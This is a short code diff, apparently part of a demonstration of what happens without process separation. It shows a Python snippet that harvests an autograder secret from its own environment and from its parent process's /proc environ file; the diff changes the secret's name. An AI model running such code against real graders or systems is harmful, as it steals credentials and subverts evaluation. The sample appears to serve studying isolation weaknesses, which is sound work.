@@ -6,12 +6,12 @@ Without: separation
 
 import os
 
-stolen = os.environ.get("HW1_SECRET", "")
+stolen = os.environ.get("AUTOGRADER_SECRET", "")
 for process in ("self", os.getppid()):
     try:
         with open(f"/proc/{process}/environ") as file:
             text = file.read()
-        stolen += text if "HW1_SECRET" in text else ""
+        stolen += text if "AUTOGRADER_SECRET" in text else ""
     except OSError:
         pass
 if stolen:
